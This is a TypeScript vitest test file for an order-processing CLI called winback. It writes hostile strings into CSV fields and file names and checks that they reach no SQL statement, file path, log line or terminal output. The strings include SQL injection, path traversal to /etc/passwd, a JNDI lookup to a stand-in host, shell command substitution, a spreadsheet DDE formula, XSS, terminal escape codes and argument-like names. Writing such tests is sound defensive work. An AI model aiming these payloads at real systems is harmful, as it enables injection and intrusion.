import { readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { winback } from '../support/cli.ts';
import { hashesUnder, inFolder } from '../support/files.ts';

/** What an attacker would write where a shop writes a number or a name. */
const texts = [
  "x'; drop table orders_runs; --",
  '") or 1=1 --',
  '../../../../etc/passwd',
  '..\\..\\x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  '${jndi:ldap://x.example/a}',
  '$(touch hacked)',
  '`touch hacked`',
  '=cmd|"/c calc"!A0',
  ':run_id',
  '%s%n%p',
  '{"event":"night_ended"}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
];
/** File names may hold all of them but a slash, and line breaks and terminal codes besides. */
const fileNames = [
  ...texts.map((text) => text.replaceAll('/', '∕')),
  'two\nlines, {"at":"now","event":"forged"}',
  '\u001b[2J\u001b]0;title\u0007',
  '-rf',
  '--lake',
  'right\u202eleft',
];

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** A hundred orders of which each text is an id, a customer, a name, a product, a channel or a country somewhere. */
function hostileExport(fileNo: number): string {
  const rows = Array.from({ length: 100 }, (_, i) => {
    const text = (n: number): string => quoted(texts[(i + n) % texts.length]!);
    const on = `2024-0${1 + (i % 6)}-1${i % 10}`;
    const id = quoted(`${texts[i % texts.length]} ${fileNo}-${i}`);
    return [id, text(0), quoted(`c${i % 14}@shop.example`), on, '10.00', 'EUR', text(1), text(2), text(3), text(4)];
  });
  const header = 'order_id,customer_id,email,order_ts,total,currency,product,category,channel,first_name';
  return [header, ...rows.map((row) => row.join(','))].join('\n');
}

test('hostile names and ids reach no statement, no path and no line of the log', async () => {
  await inFolder(async (folder) => {
    for (const [i, name] of fileNames.entries()) await writeFile(join(folder, `${name}.csv`), hostileExport(i));
    const before = (await readdir(folder)).sort();
    const run = ['run', '--verbose', '--lake', 'lake', '--as-of', '2024-06-19'];
    const ended = await winback([...run, ...fileNames.flatMap((name) => ['--orders', `./${name}.csv`])], {
      cwd: folder,
    });
    expect(ended, ended.err).toMatchObject({ code: 0 });

    const log = ended.err.trimEnd().split('\n');
    const events = log.map((line) => (JSON.parse(line) as { event: string }).event);
    expect(events).not.toContain('forged');
    expect(ended.out).not.toMatch(/\u001b|\u202e|\u0007/);

    expect((await readdir(folder)).sort()).toEqual([...before, 'lake'].sort());
    const written = [...(await hashesUnder(join(folder, 'lake'))).keys()];
    expect(written.filter((path) => !/^[\w./=-]+$/.test(path))).toEqual([]);

    const checked = await winback(['check', `./${fileNames[15]}.csv`], { cwd: folder });
    expect(checked.out).not.toMatch(/\u001b\[2J|\u0007/);
    const explained = await winback(['explain', texts[0]!, '--lake', 'lake', '--json'], { cwd: folder });
    expect(JSON.parse(explained.out)).toMatchObject({ customers: [{ orders: expect.any(Number) }] });
  });
});
